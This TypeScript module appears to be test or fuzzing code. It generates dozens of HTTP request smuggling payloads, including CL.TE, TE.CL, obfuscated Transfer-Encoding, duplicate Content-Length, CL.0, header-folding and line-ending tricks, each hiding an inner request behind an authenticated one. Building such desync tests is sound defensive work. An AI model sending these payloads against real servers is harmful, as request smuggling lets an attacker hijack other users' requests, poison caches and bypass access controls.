// Requests that two readers may cut in two ways: written by hand after the known families (CL.TE, TE.CL, TE.TE, CL.CL, CL.0, abuse of
// hop-by-hop headers, line ends).

/** A request hidden behind another one: `target` says where it would show. */
export function hidden(target: string, more = ''): string {
  return `GET ${target} HTTP/1.1\r\nHost: hidden\r\n${more}\r\n`
}

export interface Smuggle {
  readonly name: string
  readonly bytes: string
}

/** All of them, each carrying `inner`. `key` is a credential that is good, so that bodies are collected. */
export function smuggles(inner: string, key: string): Smuggle[] {
  const all: Smuggle[] = []
  const length = inner.length
  const add = (name: string, method: string, headers: string[], body: string): void => {
    const lines = [`${method} /dashboard/api/nothing HTTP/1.1`, 'Host: x', `X-Api-Key: ${key}`, ...headers]
    all.push({ name, bytes: `${lines.join('\r\n')}\r\n\r\n${body}` })
  }
  const zero = `0\r\n\r\n${inner}`

  for (const option of [
    ...['content-length', 'Content-Length', 'keep-alive, content-length', 'close , content-length'],
    ...['\tcontent-length', 'content-length,', ',content-length', 'transfer-encoding, content-length'],
  ]) {
    for (const method of ['GET', 'HEAD', 'POST', 'DELETE']) {
      add(`connection: ${option} (${method})`, method, [`Connection: ${option}`, `Content-Length: ${length}`], inner)
    }
  }
  add(
    'connection twice',
    'GET',
    ['Connection: keep-alive', 'Connection: content-length', `Content-Length: ${length}`],
    inner,
  )
  add('connection names the coding', 'POST', ['Connection: transfer-encoding', 'Transfer-Encoding: chunked'], zero)
  for (const name of ['x-api-key', 'host', 'x-forwarded-for', 'x-org-id']) {
    const headers = [`Connection: ${name}`, 'X-Forwarded-For: 192.0.2.1', 'X-Org-Id: 0']
    add(`connection: ${name}`, 'POST', [...headers, `Content-Length: ${length}`], inner)
  }

  add('CL.TE', 'POST', [`Content-Length: ${zero.length}`, 'Transfer-Encoding: chunked'], zero)
  add(
    'TE.CL',
    'POST',
    ['Transfer-Encoding: chunked', 'Content-Length: 3'],
    `${length.toString(16)}\r\n${inner}\r\n0\r\n\r\n`,
  )
  add('CL.TE, short', 'POST', ['Content-Length: 6', 'Transfer-Encoding: chunked'], zero)
  for (const coding of [
    ...['xchunked', 'x-chunked', 'chunked, identity', 'identity', 'gzip, chunked', 'chunked;q=1', '"chunked"', ''],
    ...['chunked\x0b', '\x0bchunked', 'chunke', 'chunked,', ',chunked', 'chunked chunked', 'cow', 'CHUNKED, chunked'],
  ]) {
    add(`TE.TE ${JSON.stringify(coding)}`, 'POST', [`Transfer-Encoding: ${coding}`], zero)
    add(
      `CL and ${JSON.stringify(coding)}`,
      'POST',
      [`Transfer-Encoding: ${coding}`, `Content-Length: ${zero.length}`],
      zero,
    )
  }
  add('TE twice', 'POST', ['Transfer-Encoding: chunked', 'Transfer-Encoding: identity'], zero)
  add('TE twice, turned', 'POST', ['Transfer-Encoding: x', 'Transfer-Encoding: chunked'], zero)
  for (const name of [
    'Transfer-Encoding ',
    'Transfer_Encoding',
    'Transfer\tEncoding',
    ' Transfer-Encoding',
    'X\nTransfer-Encoding',
  ]) {
    add(`TE as ${JSON.stringify(name)}`, 'POST', [`${name}: chunked`, `Content-Length: ${zero.length}`], zero)
  }
  add('TE folded', 'POST', ['X: y\r\n Transfer-Encoding: chunked', `Content-Length: ${zero.length}`], zero)

  add('CL.CL, second shorter', 'POST', [`Content-Length: ${length}`, 'Content-Length: 0'], inner)
  add('CL.CL, first shorter', 'POST', ['Content-Length: 0', `Content-Length: ${length}`], inner)
  add('CL.CL, alike', 'POST', [`Content-Length: ${length}`, `Content-Length: ${length}`], inner)
  for (const text of [
    `${length}, 0`,
    `0, ${length}`,
    `+${length}`,
    `-${length}`,
    `0x${length}`,
    `${length}e0`,
    '',
    ' ',
    `${length} 0`,
    '18446744073709551616',
    `${length}\x0b`,
  ]) {
    add(`CL ${JSON.stringify(text)}`, 'POST', [`Content-Length: ${text}`], inner)
  }
  add('CL with _', 'POST', [`Content_Length: ${length}`], inner)
  for (const method of ['GET', 'HEAD', 'OPTIONS', 'DELETE']) {
    add(`CL.0 ${method}`, method, [`Content-Length: ${length}`], inner)
    add(`TE.0 ${method}`, method, ['Transfer-Encoding: chunked'], `${length.toString(16)}\r\n${inner}\r\n0\r\n\r\n`)
  }

  for (const size of ['ffffffffffffffff', '-1', '0x1', '1;\n', '1\n', ' 1', 'g', '']) {
    add(`chunk of ${JSON.stringify(size)}`, 'POST', ['Transfer-Encoding: chunked'], `${size}\r\na\r\n${zero}`)
  }
  add('upgrade', 'GET', ['Connection: Upgrade, HTTP2-Settings', 'Upgrade: h2c', 'HTTP2-Settings: AAMAAABkAAQ'], '')
  add(
    'websocket',
    'GET',
    ['Connection: Upgrade', 'Upgrade: websocket', 'Sec-WebSocket-Version: 13', 'Sec-WebSocket-Key: eA=='],
    '',
  )
  for (const end of ['\n', '\r', '\0', '\r\r\n', '\n\r\n']) {
    add(`line end ${JSON.stringify(end)}`, 'POST', [`X-A: b${end}Content-Length: ${length}`, 'X-B: c'], inner)
  }
  return all
}
